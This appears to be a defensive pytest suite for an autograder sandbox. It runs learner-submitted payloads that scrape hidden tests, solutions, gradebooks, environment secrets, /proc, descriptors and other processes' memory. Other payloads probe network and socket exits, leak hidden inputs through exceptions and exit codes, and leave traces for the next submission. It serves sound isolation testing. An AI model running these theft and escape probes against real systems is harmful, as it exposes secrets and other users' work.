"""ATTACKS B, stealing: what a learner's code sees and reaches, and what the learner gets to see of it."""

import os
import socket
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from grader.warm import WarmJudge
from tests.attacks.conftest import Run, hold
from tests.attacks.ground import HONEST, Ground
from tests.attacks.rows import ERROR, FAIL, PASS, Outcome, Row, attack

pytestmark = pytest.mark.slow

# A thief raises what it found, so that a canary would stand in the record; with nothing found it is honest.
THIEF = """
import contextlib, gc, os, re, sys

FORM = re.compile(b"CAN" + b"ARY-[a-z]+-[0-9a-f]{16}")
LOOT = set()

def sift(content):
    LOOT.update(word.decode() for word in FORM.findall(content))

def sift_file(path, size=1 << 20):
    with contextlib.suppress(OSError, ValueError):
        if os.path.isfile(path):
            with open(path, "rb") as file:
                sift(file.read(size))

def sift_folder(path):
    for here, folders, names in os.walk(path):
        folders[:] = sorted(set(folders) - {"usr", "lib", "lib64", "proc", "sys", "bin", ".venv"})
        for name in names:
            sift_file(os.path.join(here, name))

"""
SHARE = """
if LOOT:
    raise RuntimeError(" ".join(sorted(LOOT)))
"""
NAMED = """
for name in ("class.toml", "gradebook.db", "submissions/other/01-eta/work/eta.py"):
    sift_file("@CLASS@/" + name)
for name in ("solutions/01-eta/checks/test_hidden.py", "solutions/01-eta/work/eta.py"):
    sift_file("@COURSE@/" + name)
    for up in range(12):
        sift_file("../" * up + "@COURSE@/"[1:] + name)
"""
BY_PATH = (
    NAMED
    + """
for place in ("@CLASS@", "@CLASS@/../../../..", "@COURSE@", "/box", "/box/work/..", "/tmp", "/dev/shm",
              "/root", "/home", "/etc", "/var"):
    sift_folder(place)
"""
)
BY_PROC = """
for pid in filter(str.isdecimal, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mountinfo", "status", "stack", "syscall", "auxv"):
        sift_file(f"/proc/{pid}/{name}")
    for root in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
        for tail in ("@CLASS@/class.toml", "@COURSE@/solutions/01-eta/checks/test_hidden.py"):
            sift_file(root + tail)
    with contextlib.suppress(OSError):
        for number in os.listdir(f"/proc/{pid}/fd"):
            sift_file(f"/proc/{pid}/fd/{number}")
for name in ("keys", "kcore", "kallsyms", "timer_list", "sysvipc/shm", "1/mem", "kmsg", "iomem"):
    sift_file("/proc/" + name)
"""
BY_DESCRIPTOR = """
import socket
for number in range(3, 1024):
    with contextlib.suppress(OSError):
        os.fstat(number)
        with contextlib.suppress(OSError):
            sift(os.pread(number, 1 << 20, 0))
        copy = socket.socket(fileno=os.dup(number))
        copy.setblocking(False)
        with contextlib.suppress(OSError):
            sift(copy.recv(1 << 20, socket.MSG_PEEK))
"""
BY_ENVIRONMENT = """
sift(repr(dict(os.environ)).encode())
sift_file("/proc/self/environ")
sift_file("/proc/1/environ")
"""
BY_FRAMES = """
import inspect
frame = sys._getframe()
while frame:
    seen = repr((frame.f_locals, list(frame.f_globals.items()), frame.f_code.co_consts))
    sift(seen.encode(errors="replace"))
    frame = frame.f_back
for one in gc.get_objects():
    with contextlib.suppress(Exception):
        if isinstance(one, (dict, list, tuple)) and len(one) < 1000:
            sift(repr(one)[:100_000].encode(errors="replace"))
for module in list(sys.modules.values()):
    with contextlib.suppress(Exception):
        sift(inspect.getsource(module).encode()) if "checks" in module.__name__ else None
"""
BY_MEMORY = """
for pid in filter(str.isdecimal, os.listdir("/proc")):
    with contextlib.suppress(OSError):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(word, 16) for word in line.split()[0].split("-"))
                if "r" in line.split()[1] and "[v" not in line and end - start < 1 << 26:
                    with contextlib.suppress(OSError, OverflowError, ValueError):
                        memory.seek(start)
                        sift(memory.read(end - start))
"""
BY_SHARED_MEMORY = """
import ctypes, glob
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for number in range(64):
    where = libc.shmat(number, None, 0o10000)
    if where not in (None, ctypes.c_void_p(-1).value):
        sift(ctypes.string_at(where, 4096))
for pattern in ("/dev/shm/*", "/dev/mqueue/*", "/tmp/core*", "core*"):
    for path in glob.glob(pattern):
        sift_file(path)
"""
REACH = """
import array, socket, struct
reached = []

def reach(name, family, kind, address, text=b"CAN" + b"ARY", protocol=0):
    try:
        with socket.socket(family, kind, protocol) as line:
            line.settimeout(0.3)
            line.connect(address) if address is not None else None
            line.send(text) if address is not None else None
            reached.append(name)
    except (OSError, TypeError, AttributeError):
        pass

reach("TCP", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@))
reach("TCP to the host", socket.AF_INET, socket.SOCK_STREAM, ("@HOST@", @TCP@))
reach("TCP 6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", @TCP@))
reach("Unix", socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@")
reach("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@")
reach("vsock", 40, socket.SOCK_STREAM, (2, 1024))
reach("raw", socket.AF_INET, socket.SOCK_RAW, None, protocol=1)
reach("packet", 17, socket.SOCK_RAW, None)
reach("netlink", 16, socket.SOCK_RAW, None)
reach("crypto", 38, 5, None)
with contextlib.suppress(OSError):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", ("@HOST@", @UDP@))
    reached.append("UDP to the host")
with contextlib.suppress(OSError):  # the box's own loopback takes it, nobody hears it
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", ("127.0.0.1", @UDP@))
with contextlib.suppress(OSError):
    socket.getaddrinfo("example.org", 80)
    reached.append("DNS")
if reached:
    raise RuntimeError(", ".join(reached))
"""
ALL_HONEST = {"calls": PASS, "runs": PASS, "hidden_minutes": PASS}


def thief(name: str, code: str) -> Row:
    """The honest answer, with a theft at its import."""
    return Row(name, ALL_HONEST, {"eta.py": THIEF + code + SHARE, "honest.py": HONEST["eta.py"]}, make=_join)


def _join(work: Path) -> None:
    (work / "eta.py").write_text((work / "eta.py").read_text() + (work / "honest.py").read_text())


THEFTS = [
    thief("hidden checks, solution, secret, gradebook and other submissions by path", BY_PATH),
    thief("secrets through /proc", BY_PROC),
    thief("secrets in inherited descriptors", BY_DESCRIPTOR),
    thief("secrets in the environment", BY_ENVIRONMENT),
    thief("secrets in stack frames, gc and inspect", BY_FRAMES),
    thief("secrets in the agent's memory", BY_MEMORY),
    thief("secrets in shared memory and core files", BY_SHARED_MEMORY),
]


@pytest.mark.parametrize("row", THEFTS, ids=lambda row: row.name)
def test_a_thief_finds_nothing(run: Run, row: Row) -> None:
    run(row)


def test_the_same_thief_finds_all_of_it_where_there_is_no_wall(ground: Ground, tmp_path: Path) -> None:
    [check] = attack(thief("by path", NAMED), ground, tmp_path, box="local", only={"calls"}).result.checks
    found = [word.split("-")[1] for word in ground.canaries if word in check.found]
    assert (check.verdict, found) == (ERROR, ["hidden", "class", "neighbour"])


@pytest.fixture
def listeners(ground: Ground) -> Iterator[dict[str, str]]:
    """Sockets of the host that wait for a thief; nobody has come when the test is over."""
    with ExitStack() as opened:

        def open_one(family: int, kind: int, address: object) -> socket.socket:
            line = opened.enter_context(socket.socket(family, kind))
            line.bind(address)  # type: ignore[arg-type]  # of its family
            line.setblocking(False)
            if kind == socket.SOCK_STREAM:
                line.listen()
            return line

        path, abstract = ground.class_folder / "line", f"attacks-{os.getpid()}"
        opened.callback(path.unlink, missing_ok=True)
        tcp = open_one(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0))
        udp = open_one(socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0))
        streams = [
            tcp,
            open_one(socket.AF_UNIX, socket.SOCK_STREAM, str(path)),
            open_one(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{abstract}"),
        ]
        path.chmod(0o777)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outward:
            outward.connect(("192.0.2.1", 9)) if _has_route() else None
            host = outward.getsockname()[0]
        yield {
            "TCP": str(tcp.getsockname()[1]),
            "UDP": str(udp.getsockname()[1]),
            "UNIX": str(path),
            "ABSTRACT": abstract,
            "HOST": host if host != "0.0.0.0" else "127.0.0.1",
        }
        for line in streams:
            with pytest.raises(BlockingIOError):
                line.accept()
        with pytest.raises(BlockingIOError):
            udp.recv(10)


def _has_route() -> bool:
    return len(Path("/proc/net/route").read_text().splitlines()) > 1


def test_no_line_leads_out(run: Run, listeners: dict[str, str]) -> None:
    row = thief("TCP, UDP, DNS, raw, Unix, abstract, vsock, netlink and packet sockets", REACH)
    run(row, words=listeners)


TELLS = """
import os, sys

def minutes(km): return 10 + 4 * km
def zones(): return ["east", "north"]

def minutes_all(trips):
    text = repr(trips)
    %s
"""
# What the hidden check was asked, carried outward: only its verdict and a type of Python's own may arrive.
LEAKS = {
    "output": "print(text, flush=True); print(text, file=sys.stderr, flush=True); return trips",
    "the value": "return trips + [text]",
    "an exception's message": "raise ValueError(text)",
    "an exception's type": 'raise type("E" + str(trips[0]), (Exception,), {})(text)',
    "an exception's file name": 'exec(compile("1/0", "/box/work/" + str(trips[0]) + ".py", "exec"))',
    "an exit code and last words": 'sys.stderr.write(text); sys.exit(trips[0])',
    "output, then the end of the process": "print(text, flush=True); os._exit(trips[0] % 256)",
    "file names": 'open(str(trips[0]), "w").write(text); raise FileExistsError(17, text, str(trips[0]))',
    "a forged misconception": 'class E(Exception): misconception = found = text\n    raise E(text)',
}  # fmt: skip


@pytest.mark.parametrize("way", LEAKS)
def test_what_a_hidden_check_asks_stays_out_of_the_learner_s_view(run: Run, way: str) -> None:
    verdict = FAIL if way in ("output", "the value") else ERROR
    files = {"eta.py": TELLS % LEAKS[way]}
    run(Row(f"hidden inputs through {way}", {"calls": PASS, "hidden_minutes": verdict}, files))


PLACES = """
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/box", "/box/work", "/", "/usr", "/etc",
          tempfile.gettempdir(), os.path.expanduser("~"), os.path.dirname(ctypes.__file__)]
"""
LEAVES = f"""
import ctypes, fcntl, os, tempfile

def minutes(km): return 10 + 4 * km
def zones(): return ["east", "north"]

{PLACES}
def minutes_all(trips):
    global held
    text = "left-" + repr(trips)
    held = ["left in" + " memory: " + text] * 3
    for place in PLACES:
        try:
            with open(place + "/left.txt", "w") as file:
                file.write(text)
                fcntl.flock(file, fcntl.LOCK_EX)
        except OSError: pass
    libc = ctypes.CDLL(None)
    number = libc.shmget(4711, 4096, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    if number >= 0:
        ctypes.memmove(libc.shmat(number, None, 0), text.encode(), len(text))
    libc.semget(4711, 1, 0o1666)
    libc.msgget(4711, 0o1666)
    for ring in (-1, -2, -3, -4, -5):
        libc.syscall(248, b"user", b"left", text.encode(), len(text), ring)
    return trips
"""
LOOKS = f"""
import ctypes, os, re, tempfile
{PLACES}
found = []
for place in PLACES:
    try: found.append(open(place + "/left.txt").read())
    except OSError: pass
libc = ctypes.CDLL(None)
for call in (libc.shmget(4711, 0, 0), libc.semget(4711, 0, 0), libc.msgget(4711, 0)):
    if call >= 0: found.append("an object of the one before")
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(250, 10, ring, b"user", b"left", 0) >= 0: found.append("a key of the one before")
word = re.compile(rb"left in memory: left-\\[\\d")  # not what it is written as itself
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "r" in line.split()[1] and "[v" not in line:
            try:
                memory.seek(start)
                if word.search(memory.read(end - start)): found.append("memory of the one before")
            except (OSError, ValueError): pass
if found: raise RuntimeError(repr(found))

def minutes(km): return 10 + 4 * km
def minutes_all(trips): return [minutes(km) for km in trips]
"""


def test_nothing_is_left_for_the_next_submission(
    run: Run, ground: Ground, tmp_path: Path, warm: WarmJudge | None
) -> None:
    first = Row("leaving notes", {"hidden_minutes": FAIL}, {"eta.py": LEAVES})
    outcome: Outcome = attack(first, ground, tmp_path / "first", warm=warm)
    assert outcome.verdicts == first.expect
    hold(outcome, ground, "")
    name = "/tmp, /dev/shm, locks, System V objects, the keyring and memory to the next submission"
    run(Row(name, {"calls": PASS, "hidden_minutes": PASS}, {"eta.py": LOOKS}))
